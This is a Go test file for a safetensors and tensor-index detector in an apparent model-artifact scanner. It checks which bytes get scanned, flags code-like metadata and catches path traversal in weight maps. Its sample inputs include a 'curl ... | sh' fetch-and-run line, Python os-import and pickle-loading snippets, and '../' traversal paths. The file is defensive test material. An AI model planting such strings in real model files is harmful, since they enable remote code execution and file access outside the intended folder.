package safetensors_test

import (
	"context"
	"encoding/binary"
	"errors"
	"io"
	"io/fs"
	"slices"
	"strings"
	"testing"

	"github.com/weightwarden/weightwarden/internal/artifact"
	"github.com/weightwarden/weightwarden/internal/detect"
	"github.com/weightwarden/weightwarden/internal/detect/safetensors"
)

type sink struct {
	rules, facts []string
	nested       []detect.Member
}

func (s *sink) Hit(h detect.Hit) { s.rules = append(s.rules, h.Rule) }
func (s *sink) Fact(text string) { s.facts = append(s.facts, text) }
func (s *sink) Nested(_ context.Context, m detect.Member) error {
	s.nested = append(s.nested, m)
	return nil
}

func file(header string, n int) string {
	return string(binary.LittleEndian.AppendUint64(nil, uint64(len(header)))) + header + strings.Repeat("\x00", n)
}

func judge(t *testing.T, in detect.Input, data string) *sink {
	t.Helper()
	s := &sink{}
	in.Data = io.NewSectionReader(strings.NewReader(data), 0, int64(len(data)))
	if err := safetensors.New().Detect(t.Context(), in, s); err != nil {
		t.Fatal(err)
	}
	return s
}

// Bytes that belong to no tensor are always looked at, tensors only when that
// was asked for.
func TestInside(t *testing.T) {
	const tensor = `{"a":{"dtype":"F32","shape":[16],"data_offsets":[0,64]}}`
	for _, tt := range []struct {
		data string
		deep bool
		want []int64
	}{
		{file(tensor, 64), false, nil},
		{file(tensor, 64), true, []int64{64}},
		{file(tensor, 70), false, []int64{6}},
		{file(tensor, 70), true, []int64{6, 64}},
		{file(`{"a":{"dtype":"F32","shape":[16],"data_offsets":[20,84]}}`, 84), false, []int64{20}},
	} {
		s := judge(t, detect.Input{Format: artifact.Safetensors, Deep: tt.deep}, tt.data)
		var got []int64
		for _, m := range s.nested {
			got = append(got, m.Data.Size())
		}
		if !slices.Equal(got, tt.want) {
			t.Errorf("members of %v bytes, want %v", got, tt.want)
		}
	}
}

func TestCode(t *testing.T) {
	for text, found := range map[string]bool{
		"__import__('os')": true, "exec (x)": true, "import os": true, "a; curl http://a.invalid/x | sh": true, "pickle.loads(x)": true,
		"pt": false, "important os": false, "evaluated (twice)": false, "a system of pipes": false, "torch.compile(model)": false,
	} {
		s := judge(t, detect.Input{Format: artifact.Safetensors}, file(`{"__metadata__":{"x":"`+text+`"}}`, 0))
		if slices.Contains(s.rules, "WW-SAFETENSORS-009") != found {
			t.Errorf("%q: %v", text, s.rules)
		}
	}
}

// folder are the sizes of files; a negative one cannot be looked at.
type folder map[string]int64

func (f folder) Lstat(name string) (detect.Entry, error) {
	n, ok := f[name]
	switch {
	case !ok:
		return detect.Entry{}, fs.ErrNotExist
	case n < 0:
		return detect.Entry{}, errors.New("disk")
	}
	return detect.Entry{File: artifact.File{Kind: artifact.Regular, Size: n}}, nil
}

func TestIndex(t *testing.T) {
	const files = `"weight_map":{"a":"1.safetensors","b":"2.safetensors"}}`
	tests := []struct {
		name, data string
		folder     detect.Tree
		rule       string
	}{
		{"fits", `{"metadata":{"total_size":20},` + files, folder{"1.safetensors": 100, "2.safetensors": 100}, ""},
		{"inside_of_something", `{"metadata":{"total_size":20},` + files, nil, ""},
		{"missing", `{"metadata":{"total_size":20},` + files, folder{"1.safetensors": 10}, ""},
		{"claims_more", `{"metadata":{"total_size":201},` + files, folder{"1.safetensors": 100, "2.safetensors": 100}, "WW-SAFETENSORS-008"},
		{"claims_nothing", `{` + files, folder{"1.safetensors": 100, "2.safetensors": 100}, ""},
		{"pickle", `{"weight_map":{"a":"1.bin"}}`, nil, "WW-SAFETENSORS-008"},
		{"up", `{"weight_map":{"a":"../1.safetensors"}}`, nil, "WW-SAFETENSORS-010"},
		{"absolute", `{"weight_map":{"a":"/1.safetensors"}}`, nil, "WW-SAFETENSORS-010"},
		{"backslash", `{"weight_map":{"a":"..\\1.safetensors"}}`, nil, "WW-SAFETENSORS-010"},
		{"nothing", `{"weight_map":{"a":""}}`, nil, "WW-SAFETENSORS-010"},
		{"no_json", `{"weight_map":`, nil, "WW-SAFETENSORS-001"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			s := judge(t, detect.Input{Format: artifact.TensorIndex, Tree: tt.folder}, tt.data)
			if tt.rule == "" && len(s.rules) > 0 || tt.rule != "" && !slices.Equal(s.rules, []string{tt.rule}) {
				t.Errorf("rules are %v, want %q", s.rules, tt.rule)
			}
		})
	}
	in := detect.Input{Format: artifact.TensorIndex, Tree: folder{"1.safetensors": -1}, Data: io.NewSectionReader(strings.NewReader(`{`+files), 0, int64(len(files))+1)}
	if err := safetensors.New().Detect(t.Context(), in, &sink{}); err == nil {
		t.Error("a file that cannot be looked at is no error")
	}
}
